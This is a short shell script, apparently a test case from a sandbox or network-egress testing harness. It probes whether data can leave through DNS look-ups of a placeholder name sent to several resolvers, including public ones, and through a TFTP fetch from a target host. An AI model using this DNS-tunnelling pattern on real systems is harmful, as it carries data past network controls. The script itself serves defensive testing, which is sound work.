#!/bin/sh
# attack: carry data out in names that a resolver looks up
# threat: T13
# expect: COMPLETED
. /input/targets.sh
echo TRIED
for server in "" "$HOST" 127.0.0.53 127.0.0.11 8.8.8.8 1.1.1.1; do
    timeout 2 nslookup hidden-label.example.com $server 2>/dev/null | grep -A1 '^Name' && echo "GAINED a look-up by '$server'"
done
timeout 2 tftp -g -r hidden-label -l /tmp/label "$HOST" "$UDP_PORT" >/dev/null 2>&1
exit 0
